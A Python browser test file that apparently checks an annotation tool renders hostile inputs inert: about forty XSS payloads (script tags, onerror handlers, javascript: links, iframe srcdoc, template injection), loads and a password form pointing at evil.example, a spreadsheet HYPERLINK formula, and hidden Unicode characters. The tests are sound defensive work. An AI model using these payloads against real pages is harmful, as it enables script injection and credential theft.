"""Hostile texts in the real page: nothing runs, nothing is fetched, nothing stays hidden."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from browser_cases import Opened

Visit = Callable[..., Any]
MARKUP = [
    "<script>window.hacked = 1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=window.hacked=1>",
    "<img src='http://evil.example/pixel.png'>",
    "![pixel](http://evil.example/pixel.png)",
    "![data](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "<svg onload=window.hacked=1></svg>",
    "<svg><script>window.hacked=1</script></svg>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s></svg>",
    "<math><mtext></mtext><style><img src=x onerror=window.hacked=1></style></math>",
    "<iframe src='javascript:window.parent.hacked=1'></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data='javascript:window.hacked=1'></object>",
    "<embed src='http://evil.example/x.swf'>",
    "<a href='javascript:window.hacked=1'>click</a>",
    "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt:window.hacked=1)",
    "[click](  java\tscript:window.hacked=1)",
    "[click](data:text/html,<script>window.hacked=1</script>)",
    "[click](vbscript:msgbox)",
    "<a href='&#106;avascript:window.hacked=1'>click</a>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<style>body { display: none } @import url(http://evil.example/x.css);</style>",
    "<div style='position:fixed;inset:0;background:red'>over all</div>",
    "<form action='http://evil.example/'><input name=password><button>Sign in</button></form>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "<video src=x onerror=window.hacked=1></video>",
    "<audio src='http://evil.example/x.mp3' autoplay></audio>",
    "<body onload=window.hacked=1>",
    "<div id=app></div><div data-item=stolen class=judge></div>",
    "</div></section></main><h1>Signed out</h1>",
    "<template><script>window.hacked=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'></noscript>",
    "{@html '<script>window.hacked=1</script>'} {constructor.constructor('window.hacked=1')()}",
    "```html\n<script>window.hacked = 1</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=window.hacked=1> |",
    '=HYPERLINK("http://evil.example";"x")',
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
]
HIDDEN = {
    "a right-to-left override: \u202egnp.exe": "202E",
    "an isolate: \u2066hidden\u2069": "2066",
    "zero width: pass\u200bword": "200B",
    "a joiner: a\u200db": "200D",
    "a byte order mark: \ufeffx": "FEFF",
    "a tag character: x\U000e0041y": "E0041",
    "a soft hyphen: in\u00advisible": "00AD",
    "an escape: \x1b[2J": "001B",
}
ACTIVE = (
    "script, img, iframe, object, embed, svg, style, link, meta, base, form, input, video, audio, [onerror], [onload]"
)


def walk(page: Any, count: int) -> list[Any]:
    """Look at ``count`` items in every view; what was found of each."""
    found = []
    for _ in range(count):
        page.wait_for_selector("[data-item]")
        item = page.get_attribute(".judge", "data-item")
        for key in ("f", "d", "d", "f"):  # plain, difference, and back
            page.keyboard.press(key)
            page.wait_for_timeout(10)
        inside = page.query_selector_all(".candidate .prose, .candidate .plain, .task .prose")
        active = [box.query_selector(ACTIVE) is not None for box in inside]
        links = page.eval_on_selector_all(".candidate a", "found => found.map((a) => [a.protocol, a.rel])")
        unseen = page.eval_on_selector_all(".candidate .unseen", "found => found.map((one) => one.textContent)")
        found.append((item, any(active), links, unseen))
        page.keyboard.press("5")
        page.wait_for_selector(f".judge:not([data-item='{item}'])")
    return found


def test_forty_hostile_texts(studio: Opened, visit: Visit) -> None:
    studio.account("annotator", "mia")
    for i, text in enumerate(MARKUP):
        studio.ask("comparison", [f"{text}\n\n{i}", f"harmless {i}"], f"{text} {i}?")
    page = visit("mia", "judge", viewport={"width": 1280, "height": 2000})
    page.on("dialog", lambda dialog: page.watch.problems.append(f"dialog {dialog.message}"))
    for item, active, links, _ in walk(page, len(MARKUP)):
        assert item != "stolen"
        assert not active
        for protocol, rel in links:
            assert protocol in ("http:", "https:", "mailto:")
            assert "noopener" in rel
            assert "noreferrer" in rel
    page.wait_for_selector("[data-empty]")
    assert page.evaluate("window.hacked === undefined")
    assert page.watch.problems == []


def test_nothing_is_invisible(studio: Opened, visit: Visit) -> None:
    studio.account("annotator", "mia")
    for i, text in enumerate(HIDDEN):
        studio.ask("approval", [text], f"Question {i}?")
    page = visit("mia", "judge")
    shown = set()
    for _ in HIDDEN:
        page.wait_for_selector("[data-item]")
        item = page.get_attribute(".judge", "data-item")
        views = []
        for _view in range(2):
            views.append(
                page.eval_on_selector_all(".candidate .unseen", "found => found.map((one) => one.textContent)")
            )
            page.keyboard.press("f")
            page.wait_for_timeout(30)
        assert views[0] == views[1] != [], "Markdown and plain text show the same hidden characters"
        shown.add(views[0][0].strip("⟦⟧"))
        page.keyboard.press("1")
        page.wait_for_selector(f".judge:not([data-item='{item}'])")
    assert shown == set(HIDDEN.values())


def test_ten_megabytes(studio: Opened, visit: Visit) -> None:
    studio.account("annotator", "mia")
    studio.ask("comparison", ["word " * 2_000_000, "short"], "Which?")
    page = visit("mia", "judge")
    page.wait_for_selector("[data-item]", timeout=30_000)
    page.keyboard.press("f")
    page.wait_for_selector(".plain")
    assert page.evaluate("document.body.textContent.length") < 300_000
    page.keyboard.press("5")
    page.wait_for_selector("[data-empty]")
    assert page.watch.problems == []


@pytest.mark.parametrize("text", ["<b>bold</b>", "**bold**"])
def test_markdown_is_still_shown(studio: Opened, visit: Visit, text: str) -> None:
    studio.account("annotator", "mia")
    studio.ask("approval", [text], "Good?")
    page = visit("mia", "judge")
    page.wait_for_selector("[data-item]")
    assert (page.query_selector(".candidate strong") is not None) == (text == "**bold**")
